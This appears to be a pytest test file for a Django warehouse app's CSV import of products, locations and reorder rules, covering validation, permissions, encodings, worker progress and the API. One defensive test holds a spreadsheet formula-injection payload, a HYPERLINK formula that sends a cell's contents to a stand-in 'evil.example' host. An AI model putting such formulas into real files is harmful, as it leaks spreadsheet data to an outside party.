"""CSV imports of products, locations and reorder rules: each row through its services, the
whole file or nothing, every bad row named (row, column, value, message), hostile files
refused with a clear message, and the worker reporting progress as it goes.

The service tests start an import as the page does (the file checked, the job queued; the
enqueue is captured, not sent) and then run the worker's service in the test's own
transaction. The flow test at the end goes through the real Celery worker.
"""

import time
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from rest_framework.test import APIClient

from inventory.errors import NotAllowed
from inventory.models import Product, ReorderRule, UserScope, Warehouse
from inventory.services.imports.files import MAX_ROWS, CsvFileError
from inventory.services.imports.jobs import JobStatus, import_job_get
from tests.conftest import _user
from tests.factories.inventory import ProductFactory, SupplierFactory, WarehouseFactory, ean13
from tests.factories.warehouse import LocationFactory
from warehouse.models import Location, Zone
from warehouse.services.data_import import csv_import_run, csv_import_start

pytestmark = pytest.mark.django_db


def run(user, kind: str, content: str | bytes, django_capture_on_commit_callbacks):
    """Start an import as the page does, then run the worker's part here."""
    raw = content.encode() if isinstance(content, str) else content
    with django_capture_on_commit_callbacks() as queued:
        job = csv_import_start(kind=kind, user=user, filename=f"{kind}.csv", raw=raw)
    assert len(queued) == 1  # the worker's task, enqueued on commit
    assert import_job_get(job_id=job.id).status == JobStatus.QUEUED
    return csv_import_run(job_id=job.id)


@pytest.fixture
def do_import(django_capture_on_commit_callbacks):
    def do(user, kind, content):
        return run(user, kind, content, django_capture_on_commit_callbacks)

    return do


def problems(job) -> list[tuple[int, str, str]]:
    return [(p["row"], p["column"], p["value"]) for p in job.problems]


# --- each kind: created, then updated --------------------------------------------------------


def test_products_are_created_then_updated_by_sku(supervisor, do_import):
    created = do_import(
        supervisor,
        "products",
        "sku,name,barcode,unit_cost,requires_qc,tracking\n"
        f"BOLT-M8,Hex bolt M8,{ean13(1)},0.12,no,none\n"
        "MILK-1L,Whole milk 1 l,,1.05,yes,lot_expiry\n",
    )
    assert created.status == JobStatus.DONE
    assert (created.created, created.updated, created.unchanged) == (2, 0, 0)
    milk = Product.objects.get(sku="MILK-1L")
    assert (milk.name, milk.unit_cost, milk.requires_qc, milk.tracking) == (
        "Whole milk 1 l",
        Decimal("1.05"),
        True,
        "lot_expiry",
    )
    assert milk.barcode is None

    updated = do_import(
        supervisor,
        "products",
        # Another column order; an empty cell leaves the value as it is.
        "name,sku,unit_cost\nHex bolt M8 x 40,BOLT-M8,\nWhole milk 1 l,MILK-1L,1.10\n",
    )
    assert (updated.created, updated.updated, updated.unchanged) == (0, 2, 0)
    bolt = Product.objects.get(sku="BOLT-M8")
    assert (bolt.name, bolt.unit_cost, bolt.barcode) == (
        "Hex bolt M8 x 40",
        Decimal("0.12"),
        ean13(1),
    )
    assert Product.objects.get(sku="MILK-1L").unit_cost == Decimal("1.10")


def test_locations_are_created_then_updated_by_warehouse_and_code(supervisor, do_import):
    warehouse = WarehouseFactory(code="MAIN")
    Zone.objects.create(warehouse=warehouse, code="PICK", name="Pick faces")
    bolt = ProductFactory(sku="BOLT-M8")
    created = do_import(
        supervisor,
        "locations",
        "warehouse,code,kind,zone,aisle,x,y,pick_sequence,capacity_units,home_product\n"
        "MAIN,A-01-01,storage,,A,2.5,4,10,200,\n"
        "MAIN,P-01,Pick,PICK,P,0,1,1,60,BOLT-M8\n",
    )
    assert created.status == JobStatus.DONE, created.problems
    assert created.created == 2
    face = Location.objects.get(warehouse=warehouse, code="P-01")
    assert (face.kind, face.zone.code, face.capacity_units, face.home_product_id) == (
        "pick",
        "PICK",
        60,
        bolt.pk,
    )
    assert face.barcode == "P-01"  # the code, as a new location by the service gets

    updated = do_import(
        supervisor,
        "locations",
        "warehouse;code;capacity_units;x\nMAIN;A-01-01;150;3,5\nMAIN;P-01;60;0\n",
    )
    assert (updated.created, updated.updated, updated.unchanged) == (0, 1, 1)
    bin_ = Location.objects.get(warehouse=warehouse, code="A-01-01")
    assert (bin_.capacity_units, bin_.x, bin_.aisle) == (150, 3.5, "A")


def test_reorder_rules_are_created_then_updated_by_product_and_warehouse(supervisor, do_import):
    WarehouseFactory(code="MAIN")
    ProductFactory(sku="BOLT-M8")
    ProductFactory(sku="NUT-M8")
    SupplierFactory(code="ACME")
    created = do_import(
        supervisor,
        "reorder-rules",
        "warehouse,sku,min_quantity,max_quantity,supplier,service_level,pack_multiple\n"
        "MAIN,BOLT-M8,100,500,ACME,95%,50\n"
        "MAIN,NUT-M8,10,40,,,\n",
    )
    assert created.status == JobStatus.DONE, created.problems
    rule = ReorderRule.objects.get(product__sku="BOLT-M8")
    assert (rule.min_quantity, rule.max_quantity, rule.supplier.code) == (100, 500, "ACME")
    assert (rule.service_level, rule.pack_multiple) == (Decimal("0.95"), 50)

    updated = do_import(
        supervisor,
        "reorder-rules",
        "warehouse,sku,min_quantity,max_quantity,service_level\n"
        "MAIN,BOLT-M8,120,500,0.95\n"
        "MAIN,NUT-M8,10,40,\n",
    )
    assert (updated.created, updated.updated, updated.unchanged) == (0, 1, 1)
    assert ReorderRule.objects.get(product__sku="BOLT-M8").min_quantity == 120


def test_purchasers_import_reorder_rules_but_not_products_or_locations(purchaser, do_import):
    WarehouseFactory(code="MAIN")
    ProductFactory(sku="BOLT-M8")
    job = do_import(
        purchaser, "reorder-rules", "warehouse,sku,min_quantity,max_quantity\nMAIN,BOLT-M8,1,9\n"
    )
    assert job.status == JobStatus.DONE
    for kind, header in (
        ("products", "sku,name\nX,Y\n"),
        ("locations", "warehouse,code\nMAIN,Z\n"),
    ):
        with pytest.raises(NotAllowed):
            csv_import_start(kind=kind, user=purchaser, filename="f.csv", raw=header.encode())
    assert not Product.objects.filter(sku="X").exists()


# --- idempotent: the same file twice changes nothing the second time ------------------------


def test_importing_the_same_file_again_changes_nothing(supervisor, do_import):
    WarehouseFactory(code="MAIN")
    content = (
        "sku,name,unit_cost,is_active\n"
        "BOLT-M8,Hex bolt,0.12,yes\n"
        "NUT-M8,Hex nut,0.05,true\n"
        "WASHER,Washer,0.01,1\n"
    )
    first = do_import(supervisor, "products", content)
    stamps = dict(Product.objects.values_list("sku", "updated_at"))

    again = do_import(supervisor, "products", content)

    assert (first.created, again.created, again.updated, again.unchanged) == (3, 0, 0, 3)
    assert dict(Product.objects.values_list("sku", "updated_at")) == stamps


# --- all or nothing: a bad row in the middle --------------------------------------------------


def test_a_bad_row_in_the_middle_writes_nothing_and_is_named(supervisor, do_import):
    ProductFactory(sku="KEEP", name="Kept as it was")
    job = do_import(
        supervisor,
        "products",
        "sku,name,barcode,unit_cost\n"
        "NEW-1,First new,,1.00\n"
        "KEEP,Renamed,,2.00\n"
        "NEW-2,Bad barcode,12345,1.00\n"  # row 4: the check digit is wrong
        "NEW-3,Last new,,3.00\n",
    )
    assert job.status == JobStatus.REFUSED
    assert problems(job) == [(4, "barcode", "12345")]
    assert "check digit" in job.problems[0]["message"]
    assert (job.checked, job.total) == (4, 4)
    # Nothing written: not the good rows before it, nor after it.
    assert not Product.objects.filter(sku__startswith="NEW").exists()
    assert Product.objects.get(sku="KEEP").name == "Kept as it was"


def test_every_bad_row_is_named_with_its_column_and_value(supervisor, do_import):
    job = do_import(
        supervisor,
        "products",
        "sku,name,unit_cost,requires_qc,unit_of_measure\n"
        "OK-1,Fine,1,no,ea\n"
        "BAD-COST,Cost,abc,no,ea\n"  # 3
        "BAD-QC,QC,1,maybe,ea\n"  # 4
        "BAD-UOM,UoM,1,no,crate\n"  # 5
        ",No SKU,1,no,ea\n"  # 6
        "OK-1,Twice,1,no,ea\n"  # 7
        "NO-NAME,,1,no,ea\n"  # 8
        "BAD SKU!,Spaces,1,no,ea\n"  # 9
        "NEG,Negative,-1,no,ea\n",  # 10
    )
    assert job.status == JobStatus.REFUSED
    assert problems(job) == [
        (3, "unit_cost", "abc"),
        (4, "requires_qc", "maybe"),
        (5, "unit_of_measure", "crate"),
        (6, "sku", ""),
        (7, "sku", "OK-1"),
        (8, "name", ""),
        (9, "sku", "BAD SKU!"),
        (10, "unit_cost", "-1"),
    ]
    messages = {p["row"]: p["message"] for p in job.problems}
    assert "not a number" in messages[3]
    assert "yes or no" in messages[4]
    assert "Row 2 has the same sku" in messages[7]
    assert not Product.objects.exists()


def test_rule_rows_are_checked_by_the_rule_service(supervisor, do_import):
    WarehouseFactory(code="MAIN")
    WarehouseFactory(code="FAR")
    ProductFactory(sku="BOLT-M8")
    SupplierFactory(code="OLD", is_active=False)
    mine_only = _user("local", "supervisor")
    UserScope.objects.filter(user=mine_only).update(all_warehouses=False)
    mine_only.scope.warehouses.add(Warehouse.objects.get(code="MAIN"))
    job = do_import(
        mine_only,
        "reorder-rules",
        "warehouse,sku,min_quantity,max_quantity,supplier,service_level,policy\n"
        "MAIN,BOLT-M8,50,10,,,\n"  # 2: min above max
        "FAR,BOLT-M8,1,5,,,\n"  # 3: not a warehouse this user works in
        "MAIN,NOPE,1,5,,,\n"  # 4: unknown product
        "MAIN,BOLT-M8,1,5,OLD,,\n"  # 5: same key as row 2
        "FAR,BOLT-M8,1,5,,2,\n",  # 6: same key as row 3
    )
    assert problems(job) == [
        (2, "max_quantity", "10"),
        (3, "warehouse", "FAR"),
        (4, "sku", "NOPE"),
        (5, "sku", "BOLT-M8"),
        (6, "sku", "BOLT-M8"),
    ]
    assert "must not be below the minimum" in job.problems[0]["message"]
    assert not ReorderRule.objects.exists()

    job = do_import(
        mine_only,
        "reorder-rules",
        "warehouse,sku,min_quantity,max_quantity,supplier,service_level,policy\n"
        "MAIN,BOLT-M8,1,5,OLD,1.5,guess\n",
    )
    # One problem at a time per row, as the service checks: the policy first.
    assert problems(job) == [(2, "policy", "guess")]


def test_location_rows_are_checked_by_the_layout_service(supervisor, do_import):
    warehouse = WarehouseFactory(code="MAIN")
    LocationFactory(warehouse=warehouse, code="A-01", barcode="LBL-1")
    job = do_import(
        supervisor,
        "locations",
        "warehouse,code,kind,zone,capacity_units,barcode,x\n"
        "MAIN,B-01,customer,,,,\n"  # 2: virtual kinds are the system's
        "MAIN,B-02,storage,NOZONE,,,\n"  # 3
        "MAIN,B-03,storage,,0,,\n"  # 4
        "MAIN,B-04,storage,,,LBL-1,\n"  # 5: the barcode of A-01
        "MAIN,B-05,storage,,,,far\n"  # 6
        "MAIN,B-06,storage,,,,1e9\n",  # 7
    )
    assert problems(job) == [
        (2, "kind", "customer"),
        (3, "zone", "NOZONE"),
        (4, "capacity_units", "0"),
        (5, "", ""),
        (6, "x", "far"),
        (7, "x", "1e9"),
    ]
    assert "Barcode" in job.problems[3]["message"]
    assert not Location.objects.filter(code__startswith="B-").exists()


def test_row_numbers_are_the_files_lines_even_after_a_quoted_line_break(supervisor, do_import):
    job = do_import(
        supervisor,
        "products",
        'sku,name\nA,"Two\nlines"\n\nB,Fine\nC,Fine,extra\n',
    )
    # Row 1 header, rows 2-3 one record, row 4 blank, row 5 B, row 6 C with a cell too many.
    assert problems(job) == [(6, "", "")]
    assert "more cells than the header" in job.problems[0]["message"]


# --- hostile files ------------------------------------------------------------------------------


def test_formula_like_text_is_stored_as_text(supervisor, do_import):
    name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    quoted = name.replace('"', '""')
    job = do_import(supervisor, "products", f'sku,name\nEVIL,"{quoted}"\n')
    assert job.status == JobStatus.DONE
    assert Product.objects.get(sku="EVIL").name == name


def test_our_own_neutralised_export_imports_back_to_the_original_text(supervisor, do_import):
    job = do_import(supervisor, "products", "sku,name\nAT,'@risk\nPLUS,'+1 spare\n")
    assert job.status == JobStatus.DONE
    assert set(Product.objects.values_list("name", flat=True)) == {"@risk", "+1 spare"}


def _start(user, content: bytes, kind: str = "products"):
    return csv_import_start(kind=kind, user=user, filename="f.csv", raw=content)


def test_a_file_over_10_mb_is_refused(supervisor):
    big = b"sku,name\n" + b"A-1,x\n" * (11 * 1024 * 1024 // 6)
    with pytest.raises(CsvFileError, match=r"The file is 11\.0 MB; at most 10\.0 MB"):
        _start(supervisor, big)


def test_a_file_over_50000_rows_is_refused(supervisor):
    rows = "".join(f"S{n},n\n" for n in range(MAX_ROWS + 1))
    with pytest.raises(CsvFileError, match="more than 50,000 rows"):
        _start(supervisor, ("sku,name\n" + rows).encode())


def test_wrong_encodings_are_refused_naming_the_row(supervisor):
    latin = "sku,name\nA,Plain\nB,Café crème\n".encode("cp1252")
    with pytest.raises(CsvFileError, match=r"not UTF-8 text: row 3 has the byte 0xE9") as err:
        _start(supervisor, latin)
    assert "Windows-1252" in err.value.message
    with pytest.raises(CsvFileError, match="UTF-16"):
        _start(supervisor, "sku,name\nA,B\n".encode("utf-16"))
    with pytest.raises(CsvFileError, match="Row 2 holds a NUL"):
        _start(supervisor, b"sku,name\nA,\x00B\n")
    with pytest.raises(CsvFileError, match="Excel workbook"):
        _start(supervisor, b"PK\x03\x04rest of a zip")


def test_utf8_with_a_bom_and_semicolons_is_read(supervisor, do_import):
    content = "\ufeffsku;name;unit_cost\nCAFE;Café crème;2,50\n".encode()
    job = do_import(supervisor, "products", content)
    assert job.status == JobStatus.DONE
    cafe = Product.objects.get(sku="CAFE")
    assert (cafe.name, cafe.unit_cost) == ("Café crème", Decimal("2.50"))


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "The file is empty."),
        (b"\n \n", "The file is empty."),
        (b"sku,name\n", "only the header row (row 1)"),
        (b"\xef\xbb\xbfsku,name\r\n\r\n", "only the header row"),
        (b"sku,colour\nA,red\n", "missing name; unknown colour"),
        (b"sku,name,name\nA,B,C\n", "twice: name"),
        (b"sku\tname\nA\tB\n", "separated by tabs"),
        (b'sku,name\nA,"open quote\n', "Row 2 cannot be read as CSV"),
    ],
)
def test_files_that_are_not_import_files_are_refused_clearly(supervisor, content, message):
    with pytest.raises(CsvFileError) as err:
        _start(supervisor, content)
    assert message in err.value.message


# --- the page ------------------------------------------------------------------------------------


def upload(client, kind: str, content: bytes, name: str = "file.csv"):
    return client.post(
        reverse("supervisor-data-import-start"),
        {"kind": kind, "file": SimpleUploadedFile(name, content, content_type="text/csv")},
    )


def test_the_page_offers_each_kind_with_its_template(client, supervisor, purchaser):
    WarehouseFactory(code="MAIN")
    client.force_login(supervisor)
    html = client.get(reverse("supervisor-data")).content.decode()
    for label in ("Import products", "Import locations", "Import reorder rules"):
        assert f">{label}</button>" in html
    assert reverse("supervisor-data-template", args=["locations"]) in html
    template = client.get(reverse("supervisor-data-template", args=["reorder-rules"]))
    assert template["Content-Type"].startswith("text/csv")
    assert template.content.decode("utf-8-sig").splitlines()[0] == (
        "warehouse,sku,min_quantity,max_quantity,policy,supplier,min_order_quantity,"
        "pack_multiple,service_level,is_active"
    )

    client.force_login(purchaser)
    html = client.get(reverse("supervisor-data")).content.decode()
    assert ">Import reorder rules</button>" in html
    assert ">Import products</button>" not in html
    assert upload(client, "products", b"sku,name\nA,B\n").status_code == 403


def test_a_bad_file_is_refused_on_its_form_and_nothing_is_queued(
    client, supervisor, django_capture_on_commit_callbacks
):
    WarehouseFactory(code="MAIN")
    client.force_login(supervisor)
    with django_capture_on_commit_callbacks() as queued:
        response = upload(client, "locations", b"warehouse,code\n")
    assert response.status_code == 422
    assert "only the header row" in response.content.decode()
    assert 'aria-invalid="true"' in response.content.decode()
    assert queued == []
    response = upload(client, "nonsense", b"a\n1\n")
    assert response.status_code == 422
    assert "There is no import of" in response.content.decode()


def test_an_upload_is_queued_and_its_page_polls_until_the_result(
    client, supervisor, django_capture_on_commit_callbacks
):
    WarehouseFactory(code="MAIN")
    client.force_login(supervisor)
    with django_capture_on_commit_callbacks() as queued:
        response = upload(client, "products", b"sku,name\nA,B\nC,D\n", name="two.csv")
    assert response.status_code == 302
    assert len(queued) == 1
    page = client.get(response["Location"]).content.decode()
    assert "Waiting for the worker" in page
    assert 'hx-trigger="every 1s"' in page
    job_id = response["Location"].rstrip("/").rsplit("/", 1)[1]

    csv_import_run(job_id=job_id)  # what the worker does
    panel = client.get(response["Location"], headers={"HX-Request": "true"}).content.decode()
    assert "2 created, 0 updated, 0 unchanged" in panel
    assert "hx-trigger" not in panel  # finished: the polling stops
    assert "<html" not in panel

    # Someone else's import is none of their business.
    client.force_login(_user("other", "supervisor"))
    assert client.get(response["Location"]).status_code == 404
    # An import nobody knows (any more): a poll is told to stop (htmx's 286), a page is 404.
    gone = reverse("supervisor-data-import", args=["0" * 32])
    assert client.get(gone, headers={"HX-Request": "true"}).status_code == 286
    assert client.get(gone).status_code == 404


# --- through the real worker -------------------------------------------------------------------


@pytest.mark.django_db(transaction=True)
def test_the_worker_imports_and_reports_its_progress(client, celery_worker_process):
    WarehouseFactory(code="MAIN")
    user = _user("boss", "supervisor")
    client.force_login(user)
    total = 1500
    rows = "".join(f"P-{n:05d},Product {n},{n % 7}.25\n" for n in range(total))
    response = upload(client, "products", f"sku,name,unit_cost\n{rows}".encode())
    assert response.status_code == 302
    job_id = response["Location"].rstrip("/").rsplit("/", 1)[1]

    seen: set[tuple[str, int]] = set()
    deadline = time.monotonic() + 60
    while (job := import_job_get(job_id=job_id)).status not in JobStatus.FINISHED:
        seen.add((job.status, job.checked))
        assert time.monotonic() < deadline, "the worker did not finish the import in 60 s"
        time.sleep(0.02)

    assert job.status == JobStatus.DONE, job.problems or job.message
    assert (job.created, job.checked, job.total) == (total, total, total)
    assert Product.objects.count() == total
    # Progress was reported on the way: rows checked, short of the total, while running.
    assert any(status == JobStatus.RUNNING and 0 < checked < total for status, checked in seen)
    panel = client.get(response["Location"], headers={"HX-Request": "true"}).content.decode()
    assert "1,500 created" in panel


# --- the API ---------------------------------------------------------------------------------


def api_upload(api, kind: str, content: bytes):
    return api.post(
        "/api/v1/imports/",
        {"kind": kind, "file": SimpleUploadedFile("f.csv", content)},
        format="multipart",
    )


def test_the_api_queues_an_import_and_reports_its_result(
    supervisor, purchaser, django_capture_on_commit_callbacks
):
    api = APIClient()
    api.force_authenticate(supervisor)
    with django_capture_on_commit_callbacks() as queued:
        response = api_upload(api, "products", b"sku,name\nA,B\nC,\n")
    assert response.status_code == 202, response.json()
    assert len(queued) == 1
    body = response.json()
    assert (body["status"], body["total"], body["checked"]) == ("queued", 2, 0)
    assert response["Location"] == body["url"]

    csv_import_run(job_id=body["id"])  # what the worker does
    job = api.get(body["url"]).json()
    assert (job["status"], job["problem_count"]) == ("refused", 1)
    assert job["problems"] == [
        {"row": 3, "column": "name", "value": "", "message": "This field cannot be blank."}
    ]

    bad = api_upload(api, "products", "sku,name\nA,Café\n".encode("cp1252"))
    assert bad.status_code == 400
    assert bad.json()["code"] == "invalid_csv"
    assert "row 2" in bad.json()["detail"]
    assert api_upload(api, "stock", b"a\n1\n").status_code == 400

    api.force_authenticate(purchaser)
    assert api_upload(api, "products", b"sku,name\nA,B\n").status_code == 403
    assert api.get(body["url"]).status_code == 404  # another user's import
